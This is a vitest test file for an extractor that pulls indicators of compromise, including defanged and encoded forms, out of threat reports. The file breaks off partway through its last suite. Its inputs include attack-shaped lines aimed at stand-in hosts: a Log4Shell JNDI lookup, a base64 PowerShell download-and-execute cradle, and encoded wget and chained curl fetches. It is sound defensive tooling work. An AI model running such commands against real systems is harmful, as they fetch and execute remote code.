import { parse } from 'tldts';
import { describe, expect, test } from 'vitest';
import { MEMBER_DOMAINS } from '@/core/code-evidence.ts';
import { WORD_DOMAINS } from '@/core/sentence-evidence.ts';
import { extract } from '@/core/extract.ts';
import { FILE_ENDINGS } from '@/core/file-endings.ts';
import { FILE_DOMAINS, FILE_OR_HOST_DOMAINS } from '@/core/file-evidence.ts';

/** `text`, then what is extracted from it as "type value". All names and addresses are reserved ones, made up for this table. */
type Row = [text: string, ...extracted: string[]];

function table(rows: Row[]): void {
  test.each(rows.map(([text, ...wanted]) => ({ text, wanted })))('$text', ({ text, wanted }) => {
    expect(extract(text).map(({ type, value }) => `${type} ${value}`)).toEqual(wanted);
  });
}

const MD5 = '0123456789abcdef0123456789abcdef';
const SHA1 = `${MD5}01234567`;
const SHA256 = MD5 + MD5;
const SHA512 = SHA256 + SHA256;

describe('types', () => {
  table([
    ['192.0.2.1 192.0.2.001', 'ipv4 192.0.2.1', 'ipv4 192.0.2.1'],
    ['2001:DB8:0:0:0:0:0:1 [2001:db8::2]:443', 'ipv6 2001:db8::1', 'ipv6 2001:db8::2'],
    ['::ffff:192.0.2.1 fe80::1%eth0', 'ipv6 ::ffff:192.0.2.1', 'ipv6 fe80::1'],
    // The groups of the canonical spelling need not have a digit.
    ['::255.255.255.255 0:0:0:0:0:0:0:0 dead::beef add::cafe', 'ipv6 ::ffff:ffff', 'ipv6 ::'],
    ['a_b.evil.example b\u00fccher.example', 'domain a_b.evil.example', 'domain xn--bcher-kva.example'],
    // "Test" in Chinese, which IANA reserves.
    ['http://evil.\u6d4b\u8bd5/a', 'url http://evil.xn--0zwm56d/a'],
    ['expyuzz4wqqyqhjn.onion evil.bit', 'domain expyuzz4wqqyqhjn.onion', 'domain evil.bit'],
    ['ftp://evil.example/a sftp://evil.example/b', 'url ftp://evil.example/a', 'url sftp://evil.example/b'],
    [
      'ssh://root@evil.example:2222/ wss://evil.example/c',
      'url ssh://root@evil.example:2222',
      'url wss://evil.example/c',
    ],
    ['http://3221225985/ http://0xC0000201/x', 'url http://192.0.2.1', 'url http://192.0.2.1/x'],
    ['static.evil-site.info evil.co.za', 'domain static.evil-site.info', 'domain evil.co.za'],
    // Names of customers may end in a hyphen, names of registries may not.
    ['evil-.hoster.example evil-.example', 'domain evil-.hoster.example'],
    // One small number is no address, though the URL Standard reads it as one.
    ['http://114/x'],
    ['http://[2001:db8::1]:8080/x', 'url http://[2001:db8::1]:8080/x'],
    // Without the brackets, with too many, without the scheme.
    [
      'http://2001:db8::1/ http://[[2001:db8::2]]/x',
      'url http://[2001:db8::1]',
      'url http://[2001:db8::2]/x',
    ],
    // Shares of other machines, and no files of this one.
    [
      'file://evil.example/share/a.url net.tcp://192.0.2.1:4444/',
      'url file://evil.example/share/a.url',
      'url net.tcp://192.0.2.1:4444',
    ],
    ['file:///etc/evil.example file://setup.sh file://C:/Users/evil.example'],
    ['[2001:db8::1]:8080/x [2001:db8::2]/x', 'url http://[2001:db8::1]:8080/x', 'url http://[2001:db8::2]/x'],
    // Symbols may begin a label, of hosts in emoji; behind one they are no part of it.
    [
      'http://\u2605evil.example/a http://\u263a.evil.example',
      'url http://xn--evil-fh3b.example/a',
      'url http://xn--74h.evil.example',
    ],
    ['http://evil.example\u2192bad.example', 'url http://evil.example', 'domain bad.example'],
    [`${MD5.toUpperCase()} ${SHA1}`, `md5 ${MD5}`, `sha1 ${SHA1}`],
    [`${SHA256} ${SHA512}`, `sha256 ${SHA256}`, `sha512 ${SHA512}`],
    [`${MD5}0 ${SHA256}01`],
    ['User.Name+tag@Evil.Example', 'email user.name+tag@evil.example'],
    ['user@b\u00fccher.example', 'email user@xn--bcher-kva.example'],
    ['user@[192.0.2.1] user@[IPv6:2001:DB8::1]', 'email user@[192.0.2.1]', 'email user@[2001:db8::1]'],
    ['mailto:user%40evil.example', 'email user@evil.example'],
    ['user@192.0.2.1, ssh root@192.0.2.2', 'email user@192.0.2.1', 'ipv4 192.0.2.2'],
    ['user[@]192[.]0[.]2[.]1 user(at)192.0.2.2', 'email user@192.0.2.1', 'email user@192.0.2.2'],
    // Mailboxes of short names may stand at any address; longer names and small numbers are packages and their versions.
    ['a@1.1.1.1 admin@1.2.3.4', 'email a@1.1.1.1', 'email admin@1.2.3.4'],
    // A comment is no part of an address (RFC 5322, 3.2.2).
    [
      'john.smith(comment)@evil.example (comment)john@evil.example',
      'email john.smith@evil.example',
      'email john@evil.example',
    ],
    // Schemes that are not of the web: of trackers and miners, shares, and of what loggers were made to fetch.
    [
      'tcp://192.0.2.1:4444 udp://evil.example:1337/a socks5://evil.example:1081',
      'url tcp://192.0.2.1:4444',
      'url udp://evil.example:1337/a',
      'url socks5://evil.example:1081',
    ],
    [
      '${jndi:ldap://evil.example:1389/a} stratum+tcp://evil.example:3333',
      'url ldap://evil.example:1389/a',
      'url tcp://evil.example:3333',
    ],
    // Behind a scheme that is not of the web a password stands before the host; where machines are logged in to, an account.
    ['redis://:secret@evil.example:6379 ssh root@evil.example', 'domain evil.example', 'domain evil.example'],
    ['mailto:a@evil.example?cc=b@evil.example', 'email a@evil.example', 'email b@evil.example'],
    ['"john..smith"@evil.example', 'email john..smith@evil.example'],
    ['user@evil.example----secret', 'email user@evil.example'],
    // The question for the name of an address.
    ['7.2.0.192.in-addr.arpa', 'ipv4 192.0.2.7'],
    ['evil.example/ 192.0.2.1/', 'url http://evil.example', 'ipv4 192.0.2.1'],
    ['192.0.2.1.5555 > 198.51.100.1.80: Flags [S]', 'ipv4 192.0.2.1', 'ipv4 198.51.100.1'],
    ['https://example.com/ip-address/192.0.2.1/x', 'url https://example.com/ip-address/192.0.2.1/x'],
    ['cve\u20132021\u201344228 CVE 2021-44228', 'cve CVE-2021-44228', 'cve CVE-2021-44228'],
    ['CVE 2021 44228 cve_2021_44228', 'cve CVE-2021-44228', 'cve CVE-2021-44228'],
    ['CVE - 2021 - 44228 CVE-2021-\n44228', 'cve CVE-2021-44228', 'cve CVE-2021-44228'],
    // As the tags of Sigma are written, and names of rules.
    ['cve.2021.44228 attack.g0016', 'cve CVE-2021-44228', 'mitre_attack G0016'],
    ['MITRE_T1059 mitre_t1059', 'mitre_attack T1059', 'mitre_attack T1059'],
    [
      'T1059 T1059.001 T1059/003 TA0002',
      'mitre_attack T1059',
      'mitre_attack T1059.001',
      'mitre_attack T1059.003',
      'mitre_attack TA0002',
    ],
    // No model's number looks like these, whatever they are; software and groups have no parts.
    ['TA0002.001 M1036.002 S1234.567 G0001.002', 'mitre_attack TA0002.001', 'mitre_attack M1036.002'],
  ]);
});

describe('defanged', () => {
  const URL = 'url http://evil.example/a';
  const HTTPS = 'url https://evil.example/a';
  const DOMAIN = 'domain www.evil.example';
  const EMAIL = 'email user@evil.example';
  table([
    ['hxxp://evil.example/a hXXp://evil.example/a h**p://evil.example/a', URL, URL, URL],
    ['hxtp://evil.example/a meow://evil.example/a h[tt]p://evil.example/a', URL, URL, URL],
    ['http[s]://evil.example/a hxxp(s)[:]//evil.example/a h(xx)ps://evil.example/a', HTTPS, HTTPS, HTTPS],
    ['fxp://evil.example/a', 'url ftp://evil.example/a'],
    ['purr://evil.example/a purrs[:]//evil[.]example/a me0w://evil.example/a', URL, HTTPS, URL],
    ['hxxp[:]\\\\evil[.]example/a hxxps[:]\\\\evil.example/a', URL, HTTPS],
    ['192-dot-0-dot-2-dot-1', 'ipv4 192.0.2.1'],
    ['hxxp[:]//evil.example/a hxxp[://]evil.example/a http:[//]evil.example/a', URL, URL, URL],
    ['hxxp:\\/\\/evil.example/a http:\\\\evil.example/a hxxp//evil.example/a', URL, URL, URL],
    ['hxxp:// evil.example/a hxxp ://evil.example/a hxxp: //evil.example/a', URL, URL, URL],
    ['hxxp://evil[.]example[/]a http://evil,example/a http://evil .example/a', URL, URL, URL],
    ['www[.]evil(.)example www{.}evil<.>example', DOMAIN, DOMAIN],
    ['www[.evil.]example www].[evil}.{example www.[evil[.[example', DOMAIN, DOMAIN, DOMAIN],
    ['www[ . ]evil [.] example', DOMAIN],
    ['www\\.evil\\.example www^.evil^.example', DOMAIN, DOMAIN],
    ['www[dot]evil(dot)example www{DOT}evil dot example wwwDOTevilDOTexample', DOMAIN, DOMAIN, DOMAIN],
    ['[www].evil.[example] www[.evil.example]', DOMAIN, DOMAIN],
    ['192.0.2[.]1 192[.]0[.]2[.]1 192.0.2.[1] 192.0.[2].1', ...Array<string>(4).fill('ipv4 192.0.2.1')],
    ['user[@]evil.example user(at)evil.example user {at} evil.example', EMAIL, EMAIL, EMAIL],
    ['user [at] evil [dot] example; user (arroba) evil (punto) example', EMAIL, EMAIL],
    ['user at evil dot example, user AT evil.example, user @ evil.example', EMAIL, EMAIL, EMAIL],
    ['user at evil[dot]example; user at evil [dot] example', EMAIL, EMAIL],
    ['http(:/)evil.example/a h00p://evil.example/a', URL, URL],
    ['hxxp://[192.0.2.1]/a hxxp://192,0,2,1/a', 'url http://192.0.2.1/a', 'url http://192.0.2.1/a'],
    [
      'http://[evil.example]/a hxxp://[evil[.]example]/a hxxp://[192[.]0[.]2[.]1]/a',
      URL,
      URL,
      'url http://192.0.2.1/a',
    ],
    // A blank that keeps the link from being followed.
    ['http://evil.example /a', URL],
    ['http:// evil .example /a', URL],
    ['http:// www . evil . example / a', 'url http://www.evil.example/a'],
    ['http:\\\\ evil .example /a', URL],
    ['http__ 192(.)0(.)2(.)1 /a', 'url http://192.0.2.1/a'],
    ['httpx://evil.example/a http!://evil.example/a https&://evil.example/a', HTTPS, HTTPS, HTTPS],
    [
      '\uff45\uff56\uff49\uff4c\uff3b\uff0e\uff3d\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45',
      'domain evil.example',
    ],
    ['192[[[[.]]]]0[[[.]]2[.1', 'ipv4 192.0.2.1'],
    ['www.evil . example and 192.0.2 . 1', DOMAIN, 'ipv4 192.0.2.1'],
    [
      '\uff57\uff57\uff57\uff0e\uff45\uff56\uff49\uff4c\uff0e\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45',
      DOMAIN,
    ],
    // Escaped with blanks around, as scripts split names; brackets of all kinds and widths; brackets that lost what they held.
    ['www \\. evil \\. example www\\.evil \\. example', DOMAIN, DOMAIN],
    ['www.evil  [  .  ]   example www.evil [[ [ dot )]) example', DOMAIN, DOMAIN],
    ['192()0()2()1 192[]0[]2[]1 evil[]com', 'ipv4 192.0.2.1', 'ipv4 192.0.2.1', 'domain evil.com'],
    ['user/AT/evil/DOT/example user/at/evil.example', EMAIL, EMAIL],
    ['user at evil  [[[ dot )]) example', EMAIL],
    ['userat]evil.example userAT)evil.example userarroba}evil.example', EMAIL, EMAIL, EMAIL],
    ['www.evilpunkt]example www.evilpunto)example', DOMAIN, DOMAIN],
    // A text of nothing but numbers.
    ['192,0,2,1\n198,51,100,7 1,2,3,4,5', 'ipv4 192.0.2.1', 'ipv4 198.51.100.7'],
    // Whoever brackets a dot means a host, whatever it ends in.
    ['user@evil [[ . ])] example [.nosuchtld', 'email user@evil.example.nosuchtld'],
    // Rules of Snort write the lengths of labels, and some signs, as bytes.
    ['content:"|03|www|04|evil|07|example|00|"; content:"www|2e|evil|2E|example"', DOMAIN, DOMAIN],
    // The log of Windows' DNS server.
    ['(3)www(4)evil(7)example(0)', DOMAIN],
    ['www\u200b.evil\u00ad.exa\u2060mple www\u00a0.\u00a0evil.example', DOMAIN, DOMAIN],
    ['www\uff0eevil\u3002example', DOMAIN],
    [
      'www[d0t]evil(d0t)example www[\u2022]evil[\u00b7]example www(ponto)evil[point]example',
      DOMAIN,
      DOMAIN,
      DOMAIN,
    ],
    ['www-dot-evil-dot-com 192DOT0DOT2DOT1', 'domain www.evil.com', 'ipv4 192.0.2.1'],
    ['xxps://evil.example/a ttps://evil.example/a', HTTPS, HTTPS],
    ['hxxp[colon]//evil.example/a hxxps :// evil[.]example / a', URL, HTTPS],
    ['hxxp:\\\\evil[.]example\\a', URL],
    ['www . evil . example, 192 . 0 . 2 . 1', DOMAIN, 'ipv4 192.0.2.1'],
    ['user_at_evil_dot_example', EMAIL],
    // The source of a mail; what type setters join.
    ['<a href=3D"http://evil.exam=\nple/a">', URL],
    ['http://evil.example/o\ufb03ce-\ufb01le', 'url http://evil.example/office-file'],
    // As JSON writes them.
    ['"u":"http:\\u002f\\u002fevil.example\\/a" a\\nwww.evil.example', URL, DOMAIN],
    ['http%3A%2F%2Fevil%2Eexample%2Fa', URL],
    // Among words in capitals "AT" is one of them.
    ['ENCODED DATA FROM PICTURE AT WWW.EVIL[.]EXAMPLE, USER AT EVIL.EXAMPLE', DOMAIN, EMAIL],
    // Brackets turned away, but no pairs of code and of prose.
    ['www).(evil.example {www}.{evil} (see evil.example).(Citation: Name)', DOMAIN, 'domain evil.example'],
    // Meant as a host, whatever it ends in.
    // What an ellipsis cuts in its ending is no host.
    ['server[.]cor… evil[.]example… evil[.]exa...', 'domain evil.example'],
    ['server[.]corp hxxp://server[.]lan/a', 'domain server.corp', 'url http://server.lan/a'],
    ['user[at]server.corp', 'email user@server.corp'],
    ['user AT server DOT corp', 'email user@server.corp'],
  ]);

  test('"hosted at evil[.]example" names a host, not a mailbox', () => {
    expect(extract('hosted at evil[.]example').map(({ value }) => value)).toEqual(['evil.example']);
  });

  test.each(['hosted at evil[dot]example', 'a panel at evil(dot)example'])('%s names a host, too', (text) => {
    expect(extract(text).map(({ value }) => value)).toEqual(['evil.example']);
  });

  test('what stood apart may be read both ways', () => {
    const [email] = extract('sales @ evil.example');
    expect(email?.value).toBe('sales@evil.example');
    expect(email?.also).toMatchObject([{ type: 'domain', value: 'evil.example' }]);
  });
});

test.each(['evil.example@evil.example', 'evil.example[@]evil.example'])(
  'the host of %s stands behind the sign',
  (text) => {
    const [host] = extract(text)[0]?.also ?? [];
    expect(host).toMatchObject({ value: 'evil.example', start: text.lastIndexOf('evil'), end: text.length });
  },
);

test.each([
  ['http://user:80@evil.example/', 'evil.example'],
  ['http://evil.example:80/a', 'evil.example'],
  ['http://0x7f.1/', '127.0.0.1'],
  ['https://EVIL.example/', 'evil.example'],
  ['http://evil.test:/a[.]b', 'evil.test'],
])('%s speaks of its host', (text, host) => {
  expect(extract(text)[0]?.also?.map(({ value }) => value)).toContain(host);
});

describe('encoded', () => {
  const URL = 'url http://evil.example/a';
  const utf16 = (text: string) => Array.from(text, (character) => `${character}\0`).join('');
  table([
    // At each of the three places that a byte can have in a group of Base64; with and without its padding.
    ['aHR0cDovL2V2aWwuZXhhbXBsZS9h', URL],
    [`${btoa('x http://evil.example/a')} ${btoa('xx http://evil.example/a')}`, URL, URL],
    [btoa('xxx http://evil.example/a ').replaceAll('=', ''), URL],
    [
      `powershell -enc ${btoa(utf16("IEX((New-Object Net.WebClient).DownloadString('http://evil.example/a'))"))}`,
      URL,
    ],
    [`0x${Buffer.from('http://evil.example/a').toString('hex')}`, URL],
    [btoa('no link, but a sign: ://')],
    // Broken into lines, as in the source of a mail; or in any way, where nothing else stands there.
    [
      `base64\r\n\r\n${btoa(`${'-'.repeat(45)} http://evil.example/a and more to fill the lines`).replace(/.{76}/g, '$&\r\n')}\r\n--`,
      URL,
    ],
    [`${btoa(`${'-'.repeat(27)} http://evil.example/a`)}\nand more`, URL],
    ['aHR0cDov L2V2aWwu\r\n  ZXhhbXBsZS9h', URL],
    ['a H R 0 c D o v L 2 V 2 a W w u Z X h h b X B s Z S 9 h', URL],
    ['iTunesMovLibrary'],
  ]);

  test('it stands where the whole of the code stands', () => {
    const text = `run ${btoa('wget http://evil.example/a')} now`;
    const [found] = extract(text);
    expect(text.slice(found?.start, found?.end)).toBe(btoa('wget http://evil.example/a').replace(/=+$/, ''));
  });

  test('more of them than a call takes arguments are found, each where it stands', () => {
    const lines = Array.from({ length: 300_000 }, (_, n) => btoa(`http://host-${n}.example/a`));
    const text = lines.join('\n');
    const found = extract(text);
    expect(found).toHaveLength(lines.length);
    expect(found.at(-1)).toMatchObject({
      value: 'http://host-299999.example/a',
      start: text.length - lines.at(-1)!.length,
    });
  }, 30_000);
});

describe('where a value ends', () => {
  const URL = 'url http://evil.example/a';
  const DOMAIN = 'domain evil.example';
  table([
    // A sentence ends at a bracket, or in it, and the next one begins.
    ['(as evil[.]example).  It then (as evil[.]example). it', DOMAIN, DOMAIN],
    ['(as evil[.]example.) It then [as evil[.]example]. it', DOMAIN, DOMAIN],
    ['(as 192.0.2[.]1).\n\nEach (as 192.0.2[.]2.)\nEach', 'ipv4 192.0.2.1', 'ipv4 192.0.2.2'],
    ['(as user[@]evil[.]example.) then', 'email user@evil.example'],
    ['(as hxxp://evil[.]example/a). then (as hxxp://evil[.]example/a.) then', URL, URL],
    // Columns of tables, without a path before them.
    ['1,http://evil.example,high', 'url http://evil.example'],
    ['http://evil.example:8080,http', 'url http://evil.example:8080'],
    ['http://192.0.2.1;malware;1', 'url http://192.0.2.1'],
    ['http://evil.example,see=http://bad.example', 'url http://evil.example', 'url http://bad.example'],
    ['(see http://evil.example/a). http://evil.example/a, http://evil.example/a!', URL, URL, URL],
    [
      'http://evil.example/a_(b) [http://evil.example/a](http://evil.example/a)',
      'url http://evil.example/a_(b)',
      URL,
      URL,
    ],
    // Not opened before it: part of the URL.
    ['http://evil.example/a)b', 'url http://evil.example/a)b'],
    [
      "\u201chttp://evil.example/a\u201d \u2018http://evil.example/a\u2019 'http://evil.example/a'",
      URL,
      URL,
      URL,
    ],
    ['<http://evil.example/a> | http://evil.example/a | `http://evil.example/a`', URL, URL, URL],
    ['&quot;http://evil.example/a&quot; &lt;http://evil.example/a&gt;', URL, URL],
    ['http://evil.example/a,http://evil.example/b;x', URL, 'url http://evil.example/b;x'],
    // A row of a table with commas; a map's address holds commas too.
    ['http://evil.example/a,malware,2026-01-02', URL],
    ['http://evil.example/@51.5,-0.1,15z', 'url http://evil.example/@51.5,-0.1,15z'],
    // Cut for display: it is not the URL, but its host is whole.
    ['http://evil.example/very/lo\u2026', 'domain evil.example'],
    ['http://evil.exam\u2026'],
    ['evil.example.', 'domain evil.example'],
    ['evil.example\u2074 (footnote)', 'domain evil.example'],
    // No top-level domain has a hyphen.
    [
      'an evil[.]example-hosted kit, evil[.]co[.]uk-hosted, gmail.com-like, server[.]corp-lan',
      'domain evil.example',
      'domain evil.co.uk',
      'domain gmail.com',
      'domain server.corp-lan',
    ],
    ['evil.example/bad.example', 'domain evil.example', 'domain bad.example'],
    [
      'evil[.]example/192.0.2[.]1 address=/evil.example/0.0.0.0',
      'domain evil.example',
      'ipv4 192.0.2.1',
      'domain evil.example',
      'ipv4 0.0.0.0',
    ],
    // A citation behind the link that it is for.
    ['[text](http://evil.example/a)).(Citation: Name) [b](http://evil.example/a).(Citation: Name)', URL, URL],
    // What parts the columns before it, parts it from the next.
    ['url,http://evil.example/a,Some/Name', URL],
    ['1,url,http://evil.example/,#tag,http://evil.example/a', 'url http://evil.example', URL],
    ['name;http://evil.example/a;2026-01-02 00:00', URL],
    [
      'url,http://evil.example/\u0628.apk,Name\nhttp://evil.example/[A]b,url,Name',
      'url http://evil.example/%D8%A8.apk',
      'url http://evil.example/[A]b',
    ],
    ['&lt;http://evil.example/a;b&gt; (,http://evil.example/a)', 'url http://evil.example/a;b', URL],
    // The text of a link, as AsciiDoc writes it; what is to be put in; but brackets in a query.
    [
      'http://evil.example/a[the text] http://evil.example[text] http://evil.example/a[1]',
      URL,
      'url http://evil.example',
      URL,
    ],
    ["http://evil.example/a#[victim's address]", URL],
    ['http://evil.example/a?b[]=1', 'url http://evil.example/a?b[]=1'],
    // Emphasis.
    [
      '`++http://evil.example/a++` _http://evil.example/a_ http://evil.example/a_',
      URL,
      URL,
      'url http://evil.example/a_',
    ],
    ['`++hxxps://evil[.]example++`', 'url https://evil.example'],
    // The next command of a shell; a query may hold the same signs.
    [
      'curl http://evil.example/a&&%temp%\\b http://evil.example/a?b&&c',
      URL,
      'url http://evil.example/a?b&&c',
    ],
    // What decoders put for a byte that they could not read.
    [
      'evil.example\ufffd,http://evil.example/a\ufffd,user@evil.example\ufffd,\ufffd192.0.2.1\ufffd',
      DOMAIN,
      URL,
      'email user@evil.example',
      'ipv4 192.0.2.1',
    ],
    // A host and its address, as programs in Java log them.
    [
      'evil.example/192.0.2.1:8080, evil.example/192.0.2.2:2181:Name',
      DOMAIN,
      'ipv4 192.0.2.1',
      DOMAIN,
      'ipv4 192.0.2.2',
    ],
    // More than three dots in the middle of a URL are as much part of it.
    ['http://evil.example/a?x=......b', 'url http://evil.example/a?x=......b'],
    ['http://evil.example/a......', 'domain evil.example'],
    // Only the body of a mail is written in its way.
    [
      'Received-SPF: pass client-ip=203.0.113.5;\r\n d=769.test\r\nTo: =?us-ascii?Q?user=40evil=2Eexample?=\r\n\r\n<a href=3D"http://evil.example/a">=3D',
      'ipv4 203.0.113.5',
      'domain 769.test',
      'email user@evil.example',
      URL,
    ],
    // Pictures point at a value; one alone may be a path.
    ['\u{1f6a8}evil.example http://evil.example/a\u{1f448}', 'domain evil.example', URL],
    [
      '\u{1f6a8}evil[.]example\u{1f6a8} http://evil.example/\u{1f43c}',
      'domain evil.example',
      'url http://evil.example/%F0%9F%90%BC',
    ],
    // What `strings` shows of certificates: a field begins with "0" behind the name.
    ['http://evil.example0; www.evil.example07', 'url http://evil.example', 'domain www.evil.example'],
    ['http://evil.example/a0', 'url http://evil.example/a0'],
    // Between the quotes of an attribute a link may hold blanks and ends of lines.
    ['<a href="http://evil.example/a b.html ">', 'url http://evil.example/a%20b.html'],
    ["<form action='http://evil.example/a\r\n\tb?c=d e'>", 'url http://evil.example/ab?c=d%20e'],
    ['<img alt="http://evil.example/a and more">', URL],
    // What many URLs would match is none.
    ['evil\\.example\\/[a-z]{5}', 'domain evil.example'],
  ]);
});

describe('glued to what is no part of it', () => {
  table([
    // Scripts that are written without blanks.
    ['漏洞CVE-2026-12345的 T1059を使用', 'cve CVE-2026-12345', 'mitre_attack T1059'],
    [`哈希${MD5}的`, `md5 ${MD5}`],
    ['メールbad@evil.example 联系bad@evil.example的人', 'email bad@evil.example', 'email bad@evil.example'],
    [
      '访问evil.com和bad.example下载，域名为evil.example。',
      'domain evil.com',
      'domain bad.example',
      'domain evil.example',
    ],
    ['evil[.]com와 bad[.]com과evil[.]example', 'domain evil.com', 'domain bad.com', 'domain evil.example'],
    ['192.0.2.1和evil.example', 'ipv4 192.0.2.1', 'domain evil.example'],
    ['bad@evil.com和bad@evil.example', 'email bad@evil.com', 'email bad@evil.example'],
    [
      'http://evil.example/a和http://bad.example/b下载 http://evil.example/下载',
      'url http://evil.example/a',
      'url http://bad.example/b',
      'url http://evil.example/%E4%B8%8B%E8%BD%BD',
    ],
    // Where nothing else can be read, and names that are of such a script.
    [
      'abc日本.com 中国.中国 http://中国.中国/a中国',
      'domain xn--abc-v08fl0d.com',
      'domain xn--fiqs8s.xn--fiqs8s',
      'url http://xn--fiqs8s.xn--fiqs8s/a%E4%B8%AD%E5%9B%BD',
    ],
    // Their full stop ends sentences, and is a dot in names.
    ['连接C2。evil.example是 です。evil.example', 'domain evil.example', 'domain evil.example'],
    ['访问evil。example下载 www．evil。example', 'domain evil.example', 'domain www.evil.example'],
    [
      "http://evil.example/a's panel http://evil.example/it's",
      'url http://evil.example/a',
      "url http://evil.example/it's",
    ],
    // Labels.
    ['[IPv6:2001:db8::1] v=spf1 ip6:2001:db8::2 -all', 'ipv6 2001:db8::1', 'ipv6 2001:db8::2'],
    // "And" in Arabic and Hebrew.
    [
      '\u0648192.0.2.1 \u0648evil.example \u05d5evil.example',
      'ipv4 192.0.2.1',
      'domain evil.example',
      'domain evil.example',
    ],
    ['src:2001:db8::1 C2:2001:db8::2', 'ipv6 2001:db8::1', 'ipv6 2001:db8::2'],
    ['ip2001:db8::1'],
    ['emailAddress=bad@evil.example', 'email bad@evil.example'],
    ['T1059.001_PowerShell', 'mitre_attack T1059.001'],
    // Blanks that were lost.
    ['from192.0.2.1and from192[.]0[.]2[.]1and', 'ipv4 192.0.2.1', 'ipv4 192.0.2.1'],
    [`is${MD5}of`, `md5 ${MD5}`],
    // Signs that were encoded, once or twice, or in the way of services that rewrite links.
    ['user%2540evil.example *3A*2F*2Fevil.example*2F', 'domain evil.example', 'domain evil.example'],
    ['address=/evil.example/', 'domain evil.example'],
    // Rows of tables.
    ['http://evil.example/a.exe,malware_download,32-bit,2026-01-01', 'url http://evil.example/a.exe'],
    ['192[,0[,2[,1', 'ipv4 192.0.2.1'],
    // What ends in "sh" on the line above is no shell.
    ['http://evil.example/a.sh\nevil.test.pl', 'url http://evil.example/a.sh', 'domain evil.test.pl'],
  ]);
});

describe('what stays dark', () => {
  table([
    ['readme.md process.name node.js e.g. i.e. a.k.a. setup.zip install.sh main.rs'],
    ['version 1.2.3.4, v1.2.3.4, section 3.4.5.6, Chrome/106.0.0.0'],
    ['1.3.6.1.4.1.311 .1.3.6.1 10.0.19041.1 1.2.3.4.5'],
    ['12:34:56 2026-11-02T08:15:00Z 00:1b:44:11:3a:b7 04:9e:61:0a:1b:2c:3d:4e'],
    [`serial number: ${MD5}, imphash: ${MD5}, 123e4567-e89b-12d3-a456-426614174000`],
    ['C:\\Windows\\System32\\command.com /usr/bin/run.sh ~/src/test.py'],
    ['/var/run/sshd/sshd.pid Win64/Emotet.AL VBS/PSW.Agent.AW'],
    ['event.target this.id items.map(x) os.name() console.info window.open'],
    ['System.Net ASP.NET the end.It was late B.Sc std::cafe'],
    ['com.example.app.name org.example.tools.info'],
    ['@media @angular/core git@evil.example:group/project.git'],
    ['co.uk com.au _dmarc ________.com'],
    ['foo).bar() x[0].name list(a).id (in 2020).The end'],
    ['.items[].name | select(.id) | sort_by(.data.date)'],
    ['Foo::Bar.new'],
    ['Bump package from 1.2.3 to 1.2.3.1'],
    ['/usr/share/doc/1.2.3.4/ /Chrome/120.0.0.0/'],
    ['evil.nosuchtld user@evil.nosuchtld http://evil.nosuchtld/a'],
    ['00000000000000000000000000000000 abababababababababababababababab'],
    ['4d5a0000000000000000000000000000 00000000000000000000000000000001'],
    ['kept in a folder, i.e.in the cache, e.g.my files'],
    // Talk of dots.
    ['The tool uses [.] in names, with [.] and [at]; the dot in the corner, the dot com era'],
    ['chmod 777 bins.sh; sh bins.sh; ./bins.sh'],
    ['error at main.rs:12 in /usr/lib/mod_dir.so'],
    ['Win32/Agent.TEL Trojan/Loader.Abc'],
    ['error C2065, the T1000, G1928, S2000'],
    // Numbers of bugs and tests.
    ['mended: [T5793,T4921], t1450-fsck, t1405-main'],
    ['version: "1.2.3.4" <version>1.2.3.4</version> FileVersion 1.0.0.1 OID: 2.5.29.15'],
    ['package==1.2.3.4'],
    ['multi-user.target ActiveSheet.Name host.name asp.net'],
    // Members, in the case and at the depth of code.
    ['Array.prototype.map this.it.next WshShell.run ADODB.stream Worksheet.Name proposal.ID subprocess.call'],
    ['microsoft.powershell.security System.Net.Sockets e.business K.cA COM.INFO'],
    ['MANIFEST.in Makefile.win colors.cc numbers.rs compile.sh'],
    [
      'README.de LICENSE.at Dockerfile.dev meson.build evil.pc.in evil.conf.in evil.man src/evil.inc debian/evil.mk',
    ],
    ['default.target or opts.windows or gen.tab or chart.next or evil.docs or expected.data'],
    ['if (a.is && b.it) rows.then((r) => r.data, (r) => r.it) || c.it || d.it;'],
    ['r.origin.name m.property.name environment.name'],
    ['the Ph.D.in physics, the M.Sc.in biology, the U.S.A.is big, Art.Nr. 12'],
    ['file:///srv/evil.example'],
    ['libevil-1.2.so and python3.9.so, libevil-17a.so; en.US de.DE'],
    ['set the version to 1.2.3.4 (from version 1.2.3.3), Breaks: tool (<< 1.2.3.4-5)'],
    // But what is fetched comes from an address.
    ['its next version from 203.0.113.5, a build from 198.51.100.7', 'ipv4 203.0.113.5', 'ipv4 198.51.100.7'],
    [
      'versi\u00f3n 1.2.3.4, vers\u00e3o: 1.2.3.4, wersja 1.2.3.4, \u0432\u0435\u0440\u0441\u0438\u044f 1.2.3.4',
    ],
    ['\u7248\u672c1.2.3.4 \u7248\u672c\u53f7\uff1a1.2.3.4 \u30d0\u30fc\u30b8\u30e7\u30f3 1.2.3.4'],
    // Numbers of versions, and of what certificates hold.
    ['1.2.3.4-g0a1b2c3 sec. 1.2.3.4 ProductVersion\0\x001.2.3.4 2.5.29.37={text}'],
    [`imphash:        ${MD5} ${SHA256}==`],
    ['1 . 2 . 3 and the end . Then'],
    // Members and classes behind a bracket, fractions, and arguments that were left out.
    ['.library(.static), .macOS(.v14), Kind.library(.automatic), .font(.blue), a:not(.active)'],
    ['scale(.98)}.button.primary{ decode(..) and format(..) will fail, "{0}.{1}.{2}.{3}"'],
    ['c[.]cmd b[.]bat'],
    // Objects that are made, fields, templates, classes, members of types, blocks, and files of scripts.
    ['app = Thing.new, t = klazz.new; "k8s.pod.name" fileset.name'],
    ['<%= pet.id %> #{@inviter.name} (".tooltip.show") .modal.show { }'],
    ['user.City, ShippingAddress.City, Company.Extensions.Hosting'],
    ['rows.select{|row| a } rows.select { |row| a } rows.select do |row|'],
    ['install-tool.sh docker-entrypoint.sh 01-tool.yml.example lcov.info'],
    // Versions in lists of changes and in names.
    ['Bump `Some.Package` from `1.2.3.4` to `1.2.5`, bumps tool from 1.2.3.4 to 1.2.3.5'],
    ['TOOL_VERSION=1.2.3.4 <UICultureVersion>5.0.2.0< toolVersion: "1.2.3.4"'],
    ['regex.test(text) command.example(text) distro.like() node.style = 1 count.total += 2'],
    ['HjwLX.dot template.dot HKCU\\Software\\Classes\\.app 1.2.3.4-beta the M1911'],
    ['len(seg.data) isinstance(node.id, Name) TokenKind.PLUS TreeNode.Style C0209 lint.sh'],
    ['package.module.data\\_types'],
    ['plt.show tf.data 5.5.in Socket.IO Paint.NET Visual.Studio'],
